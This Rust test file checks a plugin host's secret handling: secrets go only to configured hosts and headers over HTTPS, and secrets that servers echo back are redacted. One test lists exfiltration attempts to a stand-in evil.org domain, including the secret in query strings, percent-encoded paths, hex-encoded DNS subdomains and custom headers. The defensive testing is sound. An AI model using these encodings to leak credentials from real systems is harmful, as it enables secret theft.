//! Secrets on their way out: into headers that settings name, for hosts that settings name, encrypted, and nowhere else. The letters are those
//! of the cases of secrets.

use crate::host::{Host, Preparation};
use crate::names::{Names, Reply};
use crate::web::{Web, answer, page, redirect};
use crate::world::{World, in_a_world};
use serde_json::json;
use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt;
use toolcrib_tests::certificate::Authority;
use toolcrib_tests::envelope::{kind, said};
use toolcrib_tests::{canary, skip};

pub(crate) const VALUE: &str = "zK4vQ9.Lw2x-Ht7Rm+8";
/// Where `api.org` is, and where every other name.
const API: &str = "93.184.216.34";
const OTHER: &str = "93.184.216.35";
const METHODS: &str = r#"http.methods=["GET", "POST"]"#;
const HOSTS: &str = r#"http.hosts=["api.org", "other.org"]"#;
const HEADERS: &str = r#"http.headers={ authorization = "Bearer ${secret:KEY}", accept = "text/plain" }"#;

/// A program that trusts the authority.
fn trusting<'w>(world: &'w World, authority: &Authority) -> Preparation<'w> {
    let prepared = world.program();
    prepared.program.write("ca.pem", authority.pem());
    let ca = prepared.program.path("ca.pem").display().to_string();
    prepared.set(&format!("network.ca_file={ca:?}"))
}

/// The same with a secret for `api.org`, whose guest sends it in a header.
pub(crate) fn prepared<'w>(world: &'w World, authority: &Authority) -> Preparation<'w> {
    let prepared = trusting(world, authority);
    prepared.program.write("config/toolcrib/key", VALUE);
    let key = prepared.program.path("config/toolcrib/key");
    std::fs::set_permissions(&key, Permissions::from_mode(0o600)).expect("a file of ours");
    prepared
        .set(&format!("secret.KEY.file={:?}", key.display().to_string()))
        .set(r#"secret.KEY.hosts=["api.org"]"#)
        .guest("requester", &[HOSTS, METHODS, HEADERS])
}

fn host(world: &World, authority: &Authority) -> Host {
    prepared(world, authority).run()
}

/// Servers that show the header they were sent, that redirect to each other, and that answer without encryption.
fn servers(authority: &Authority) -> (Names, Web, Web) {
    let (api, other) = (authority.server("api.org"), authority.server("other.org"));
    let encrypted = Web::open_encrypted(
        move |to| if to.to_string() == API { api.clone() } else { other.clone() },
        |request, wire| match request.target.as_str() {
            "/to-other" => wire.write_all(&redirect(307, "https://other.org/here")),
            "/to-plain" => wire.write_all(&redirect(307, "http://api.org/here")),
            "/echo" => wire.write_all(&page(&request.values("authorization").join(" "))),
            "/location" => wire.write_all(&redirect(307, &format!("http://other.org/?token={VALUE}"))),
            "/binary" => {
                wire.write_all(&answer("200 OK", &[("x-echo", VALUE)], [b"\xff\xfe", VALUE.as_bytes()].concat()))
            }
            _ => wire.write_all(&page("here")),
        },
    );
    let plain = Web::open(&[80], |_, wire| wire.write_all(&page("plain")));
    let names = Names::serve(|query| Reply::addresses(query, &[if query.name == "api.org" { API } else { OTHER }]));
    (names, encrypted, plain)
}

/// The value is in the header that settings name, for the host that settings name; the other header goes to every host of the plugin.
#[test]
fn a_secret_goes_to_its_host_in_its_header() {
    in_a_world(|world| {
        let authority = Authority::new();
        let (_names, encrypted, plain) = servers(&authority);
        let mut host = host(world, &authority);
        assert_eq!(host.request("GET", "https://api.org/", &[])["result"]["status"], 200);
        assert_eq!(host.request("POST", "https://other.org/", &[])["result"]["status"], 200);
        let sent = encrypted.requests();
        assert_eq!(sent[0].values("authorization"), [format!("Bearer {VALUE}")]);
        assert!(sent[1].values("authorization").is_empty());
        assert!(encrypted.requests().iter().all(|request| request.values("accept") == ["text/plain"]));
        assert!(plain.connections().is_empty());
    });
}

/// K-05: so does the canary of all tests, and what comes back of it is taken out.
#[test]
fn the_canary_is_in_the_header_and_in_no_answer() {
    in_a_world(|world| {
        let Some(canary) = canary::value() else { skip!("the canary is switched off") };
        let authority = Authority::new();
        let (_names, encrypted, _plain) = servers(&authority);
        let headers = r#"http.headers={ authorization = "Bearer ${secret:CANARY}" }"#;
        let prepared = trusting(world, &authority).set(r#"secret.CANARY.hosts=["api.org"]"#);
        let mut host = prepared.guest("requester", &[HOSTS, METHODS, headers]).run();
        let answer = host.request("GET", "https://api.org/echo", &[]).to_string();
        assert!(answer.contains("Bearer [secret:CANARY]"), "{answer}");
        assert_eq!(encrypted.requests()[0].values("authorization"), [format!("Bearer {canary}")]);
    });
}

/// Without encryption it does not go, nor with a redirect to another host or out of encryption.
#[test]
fn a_secret_goes_nowhere_else() {
    in_a_world(|world| {
        let authority = Authority::new();
        let (_names, encrypted, plain) = servers(&authority);
        let mut host = host(world, &authority);
        let answer = host.request("GET", "http://api.org/", &[]);
        assert_eq!(kind(&answer), "denied", "{answer}");
        assert!(said(&answer).contains("goes over HTTPS alone"), "{answer}");
        assert_eq!(host.request("GET", "https://api.org/to-other", &[])["result"]["status"], 200);
        assert_eq!(kind(&host.request("GET", "https://api.org/to-plain", &[])), "denied");
        assert!(plain.connections().is_empty(), "{:?}", plain.connections());
        let sent = encrypted.requests();
        let at_other: Vec<_> = sent.iter().filter(|request| request.target == "/here").collect();
        assert!(at_other.len() == 1 && at_other[0].values("authorization").is_empty());
    });
}

/// A server of one's own has no public certificate: what is refused without encryption says which setting makes encryption possible.
#[test]
fn a_server_of_the_local_network_is_refused_with_the_setting_for_its_certificate() {
    in_a_world(|world| {
        let authority = Authority::new();
        let prepared = prepared(world, &authority)
            .set(r#"secret.KEY.hosts=["localhost", "api.org"]"#)
            .set(r#"tools.fetch_allowed_domains=["localhost", "api.org"]"#);
        let mut host = prepared.guest("requester", &[r#"http.hosts=["localhost", "api.org"]"#, METHODS, HEADERS]).run();
        let answer = host.request("GET", "http://localhost/", &[]);
        assert_eq!(kind(&answer), "denied", "{answer}");
        assert!(said(&answer).contains("goes over HTTPS alone") && said(&answer).contains("`ca_file`"), "{answer}");
        let answer = host.request("GET", "http://api.org/", &[]);
        assert!(kind(&answer) == "denied" && !said(&answer).contains("ca_file"), "{answer}");
    });
}

/// A plugin cannot set the header that settings write.
#[test]
fn a_header_that_settings_write_is_not_the_plugins() {
    in_a_world(|world| {
        let authority = Authority::new();
        let (_names, encrypted, _plain) = servers(&authority);
        let mut host = host(world, &authority);
        for name in ["authorization", "Authorization", "AUTHORIZATION"] {
            let answer = host.request("GET", "https://api.org/", &[(name, "Bearer mine")]);
            assert_eq!(kind(&answer), "invalid_arguments", "{answer}");
        }
        assert!(encrypted.requests().is_empty());
    });
}

/// What a server sends back of it, the plugin does not get: its name takes its place, in what is no text as well, and in what is said of redirects.
#[test]
fn what_a_server_sends_back_of_a_secret_is_taken_out() {
    in_a_world(|world| {
        let authority = Authority::new();
        let _servers = servers(&authority);
        // So that it is not taken out of the plugin's result.
        let mut seen = prepared(world, &authority).set("leaks.results=warn").run();
        let answer = seen.request("GET", "https://api.org/echo", &[]).to_string();
        assert!(answer.contains("Bearer [secret:KEY]") && !answer.contains(VALUE), "{answer}");
        let answer = seen.request("GET", "https://api.org/binary", &[]).to_string();
        assert!(answer.contains("[secret:KEY]") && !answer.contains(VALUE), "{answer}");
        let answer = seen.request("GET", "https://api.org/location", &[]).to_string();
        assert!(answer.contains("[secret:KEY]") && !answer.contains(VALUE), "{answer}");
        // Where it is cut, the answer has nothing of it either.
        for limit in 8.."Bearer ".len() + VALUE.len() {
            let request = json!({ "method": "GET", "url": "https://api.org/echo", "headers": [], "limit": limit });
            let answer = seen.call("request", request);
            let body = answer["result"]["body"].as_str().unwrap();
            assert!("Bearer [secret:KEY]".starts_with(body) && body.len() == limit.min(19), "{limit}: {body}");
        }
    });
}

/// K-20: the value in any part of a request that a plugin puts together is refused, before a name is asked for.
#[test]
fn a_request_that_holds_a_secret_is_refused_before_its_name_is_asked_for() {
    in_a_world(|world| {
        let authority = Authority::new();
        let (names, encrypted, plain) = servers(&authority);
        let mut host =
            prepared(world, &authority).set("plugin.requester.http.hosts=[\"api.org\", \"*.evil.org\"]").run();
        let hex: String = VALUE.bytes().map(|byte| format!("{byte:02x}")).collect();
        let percent: String = VALUE.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let (first, second) = hex.split_at(20);
        let small = VALUE.to_ascii_lowercase();
        for (url, headers) in [
            (format!("https://x.evil.org/?q={VALUE}"), vec![]),
            (format!("https://x.evil.org/{percent}"), vec![]),
            (format!("https://x.evil.org/?q=%{:02x}{}", VALUE.as_bytes()[0], &VALUE[1..]), vec![]),
            (format!("https://{hex}.evil.org/"), vec![]),
            (format!("https://{first}.{second}.evil.org/"), vec![]),
            (format!("https://x.evil.org/{small}"), vec![]),
            ("https://x.evil.org/".into(), vec![("x-key", VALUE)]),
            ("https://x.evil.org/".into(), vec![("x-key", hex.as_str())]),
        ] {
            let answer = host.request("GET", &url, &headers);
            let refused = ["denied", "invalid_arguments"].contains(&kind(&answer));
            assert!(refused && !answer.to_string().contains(VALUE), "{url}: {answer}");
        }
        let body = json!({ "method": "POST", "url": "https://x.evil.org/", "headers": [], "body": VALUE });
        assert_eq!(kind(&host.call("request", body)), "denied");
        assert!(names.asked().is_empty(), "{:?}", names.asked());
        assert!(encrypted.connections().is_empty() && plain.connections().is_empty());
        world.assert_record(&[]);
    });
}

/// A value that a program prints is read once; where it prints none, the request says why, and nothing is sent.
#[test]
fn a_program_that_prints_a_secret_is_asked_when_it_is_needed() {
    in_a_world(|world| {
        let authority = Authority::new();
        let (_names, encrypted, _plain) = servers(&authority);
        let program = trusting(world, &authority);
        let count = program.program.path("count");
        let script = format!("echo >> {}; echo {VALUE}", count.display());
        let headers = r#"http.headers={ authorization = "${secret:PRINTED}", x-other = "${secret:OTHER}" }"#;
        let mut host = program
            .set("secret.OTHER.command=[\"sh\", \"-c\", \"echo oops-a-value-1 >&2; exit 3\"]")
            .set("secret.OTHER.hosts=[\"other.org\"]")
            .set(&format!("secret.PRINTED.command={:?}", ["sh", "-c", &script]))
            .set("secret.PRINTED.hosts=[\"api.org\"]")
            .guest("requester", &[HOSTS, METHODS, headers])
            .run();
        assert_eq!(host.request("GET", "https://api.org/", &[])["result"]["status"], 200);
        assert_eq!(host.request("GET", "https://api.org/", &[])["result"]["status"], 200);
        assert_eq!(encrypted.requests()[1].values("authorization"), [VALUE]);
        assert_eq!(std::fs::read_to_string(count).expect("it was asked"), "\n");
        let answer = host.request("GET", "https://other.org/", &[]);
        assert_eq!(kind(&answer), "unavailable", "{answer}");
        assert!(said(&answer).contains("its program exits with 3") && !said(&answer).contains("oops"), "{answer}");
        assert_eq!(encrypted.requests().len(), 2);
    });
}
